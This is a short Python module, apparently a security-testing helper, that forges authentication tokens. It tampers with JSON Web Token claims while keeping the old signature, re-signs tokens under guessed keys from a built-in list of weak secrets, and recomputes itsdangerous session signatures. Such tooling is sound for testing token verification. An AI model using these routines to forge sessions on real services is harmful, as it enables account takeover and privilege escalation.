"""Writing tokens by hand, as an attacker does."""

import base64
import binascii
import hashlib
import hmac
import json
from typing import Any

WORDS = (b"123456", b"password", b"secret", b"change-me", b"keyboard cat")
"""Keys that everybody can guess."""


def part(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def says(token: str) -> dict[str, Any]:
    """The claims of a JSON Web Token, without looking at its signature; nothing for other tokens."""
    try:
        claims = json.loads(base64.urlsafe_b64decode(token.split(".")[1] + "=="))
    except (IndexError, ValueError, binascii.Error):
        return {}
    return claims if isinstance(claims, dict) else {}


def written(token: str, **claims: object) -> str:
    """The token with other claims and the signature that it had."""
    head, _, signature = token.split(".")
    return f"{head}.{part(json.dumps(says(token) | claims).encode())}.{signature}"


def resigned(token: str, key: bytes) -> str:
    """The token with the signature that belongs to it under this key."""
    signed = token.rpartition(".")[0]
    return f"{signed}.{part(hmac.new(key, signed.encode(), hashlib.sha256).digest())}"


def concatenated(signed: str, key: bytes) -> str:
    """The signature of itsdangerous, whose key is made from a salt and the app's."""
    derived = hashlib.sha1(b"itsdangerous.Signersigner" + key, usedforsecurity=False).digest()
    return part(hmac.new(derived, signed.encode(), hashlib.sha1).digest())
